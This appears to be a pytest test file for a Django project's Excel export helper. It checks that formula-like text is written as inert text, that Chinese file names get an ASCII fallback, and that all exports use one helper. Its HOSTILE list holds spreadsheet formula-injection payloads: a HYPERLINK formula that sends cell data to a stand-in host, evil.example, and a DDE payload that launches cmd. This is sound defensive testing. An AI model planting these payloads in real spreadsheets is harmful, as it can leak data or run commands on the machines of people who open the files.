"""The one Excel helper: typed text never becomes a formula; Chinese file names; frozen header; every export uses it."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pytest
from django.conf import settings
from openpyxl import load_workbook

from core.exports import Sheet, attachment_disposition, workbook_bytes, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def formulas_in(data: bytes) -> list[str]:
    """Every <f> (formula) element in any worksheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def assert_no_live_formula(data: bytes) -> None:
    assert formulas_in(data) == []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_text_that_looks_like_a_formula_is_written_as_text():
    data = workbook_bytes([Sheet("表", ["内容", "数"], [[text, 1] for text in HOSTILE])])
    assert_no_live_formula(data)
    sheet = load_workbook(io.BytesIO(data)).active
    # An XML parser may read a carriage return back as a line feed (the standard library's does, lxml keeps it);
    # what matters is that the text is there, as text.
    read = [row[0].replace("\r", "\n") for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert read == [t.replace("\r", "\n") for t in HOSTILE]
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [1] * len(HOSTILE)
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_the_file_name_is_chinese_with_an_ascii_fallback():
    header = attachment_disposition("2026年度书面报告报送情况.xlsx", fallback="report.xlsx")
    assert header.startswith('attachment; filename="report.xlsx"; ')
    encoded = header.split("filename*=UTF-8''")[1]
    assert unquote(encoded) == "2026年度书面报告报送情况.xlsx"
    assert re.fullmatch(r"[A-Za-z0-9%._~-]+", encoded)
    response = xlsx_response([Sheet("表", ["a"], [])], filename='督办 事项;".xlsx')
    assert "filename*=UTF-8''%E7%9D%A3%E5%8A%9E%20%E4%BA%8B%E9%A1%B9%3B%22.xlsx" in response["Content-Disposition"]


def test_every_excel_export_goes_through_the_helper():
    """openpyxl writes workbooks in one place only: core/exports.py."""
    offenders = []
    for app in settings.PROJECT_APPS:
        for path in Path(settings.BASE_DIR, app).rglob("*.py"):
            if "tests" in path.parts or (path.name == "exports.py" and path.parent.name == "core"):
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bopenpyxl\b", text) or ("Content-Disposition" in text and ".xlsx" in text):
                offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == []


@pytest.mark.parametrize("value", [None, 3, 2.5, True, "普通文字"])
def test_plain_values_stay_what_they_are(value):
    sheet = load_workbook(io.BytesIO(workbook_bytes([Sheet("表", ["a"], [[value]])]))).active
    assert sheet["A2"].value == ("" if value is None else value) or (value is None and sheet["A2"].value is None)
